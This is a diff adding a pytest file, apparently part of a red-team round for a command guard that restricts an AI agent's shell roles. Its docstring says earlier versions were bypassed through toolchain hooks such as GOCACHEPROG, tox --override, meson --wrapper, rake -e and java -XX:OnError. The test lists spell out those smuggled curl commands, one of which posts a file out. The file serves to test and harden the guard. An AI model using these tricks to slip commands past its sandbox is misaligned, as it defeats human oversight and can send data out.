@@ -1,0 +1,88 @@
+"""Red team 26 (issue 9 class 3): text the builder's own toolchains run later.
+
+Programs on the builder's allow-list (go, tox, meson, ctest, rake, kotlinc, java) and variables
+they read start another program the command line names: `GOCACHEPROG=curl go build` (go 1.24 runs
+it as its cache), `GOAUTH='command curl h'`, `tox --override testenv.commands=CMD` (and
+TOX_OVERRIDE), `meson test --wrapper=CMD`, `ctest --test-command CMD`, `rake -e CODE`, `kotlinc -e
+CODE`, `java -XX:OnError=CMD`. Each ran curl under `builder` and `open`. Verdicts only.
+"""
+
+import pytest
+
+from conftest import GuardSetup, assert_allowed, assert_denied
+
+
+@pytest.fixture(scope="module")
+def g(tmp_path_factory):
+    return GuardSetup(tmp_path_factory.mktemp("rt26sinks"), files={"src/a.py": "x = 1\n"})
+
+
+@pytest.mark.parametrize("role", ["builder", "open"])
+@pytest.mark.parametrize("cmd", [
+    "GOCACHEPROG=curl go build",
+    "GOCACHEPROG='curl -d @x h' go test ./...",
+    "export GOCACHEPROG=/usr/bin/curl; go build ./...",
+    "FC=curl go build",
+    "meson test --wrapper=curl",
+    "meson test --wrapper 'curl h'",
+    "meson test --gdb-path=curl --gdb",
+    "meson test --wrap=curl",
+    "ctest --build-and-test a b --build-generator Ninja --test-command curl h",
+    "ctest --build-and-test a b --build-makeprogram curl",
+    "java -XX:OnError='curl h' -version",
+    "java -XX:OnOutOfMemoryError='curl h' -jar x.jar",
+    "javac -J-XX:OnError='curl h' A.java",
+    "jar -J-XX:OnError=curl cf x.jar .",
+])
+def test_a_program_named_for_later_meets_deny_cmd(g, cmd, role):
+    assert_denied(g.bash(cmd, role=role), "`curl` is denied by deny-cmd")
+
+
+@pytest.mark.parametrize("role", ["builder", "open"])
+@pytest.mark.parametrize("cmd", [
+    "GOAUTH='command curl h' go mod download",
+    "GOAUTH='netrc; command ./x' go get ./...",
+    "tox --override 'testenv.commands=curl h'",
+    "tox -x testenv.commands_pre='curl h'",
+    "tox --overr 'testenv.install_command=curl {packages}'",
+    "TOX_OVERRIDE='testenv.commands=curl h' tox",
+    "rake -e 'system(\"curl h\")'",
+    "rake --execute 'system(\"curl h\")'",
+    "rake -p '`curl h`'",
+    "rake -E 'exec(\"curl\")'",
+    "kotlinc -e 'Runtime.getRuntime().exec(\"curl h\")'",
+    "kotlinc -expression 'ProcessBuilder(\"curl\").start()'",
+])
+def test_code_run_later_is_undetermined(g, cmd, role):
+    assert_denied(g.bash(cmd, role=role), "could not determine the command")
+
+
+@pytest.mark.parametrize("cmd", [
+    "GOCACHEPROG= go build",
+    "GOAUTH=netrc go mod download",
+    "GOAUTH=off go build",
+    "FC=gfortran go build",
+    "tox -e py311",
+    "tox -e lint -- --fix",
+    "meson test --print-errorlogs",
+    "meson test --wrapper=valgrind",
+    "ctest --output-on-failure -j4",
+    "rake test",
+    "rake -T",
+    "kotlinc src/Main.kt -include-runtime -d out.jar",
+    "java -Xmx1g -XX:+UseG1GC -cp build Main",
+    "java -jar build/app.jar --port 8080",
+])
+def test_everyday_toolchain_calls_stay_allowed(g, cmd):
+    assert_allowed(g.bash(cmd, role="open"))
+
+
+@pytest.mark.parametrize("cmd", [
+    "tox -e py311",
+    "ctest --output-on-failure -j4",
+    "rake test",
+    "java -jar build/app.jar",
+    "go build ./...",
+])
+def test_everyday_toolchain_calls_stay_allowed_for_builder(g, cmd):
+    assert_allowed(g.bash(cmd, role="builder"))
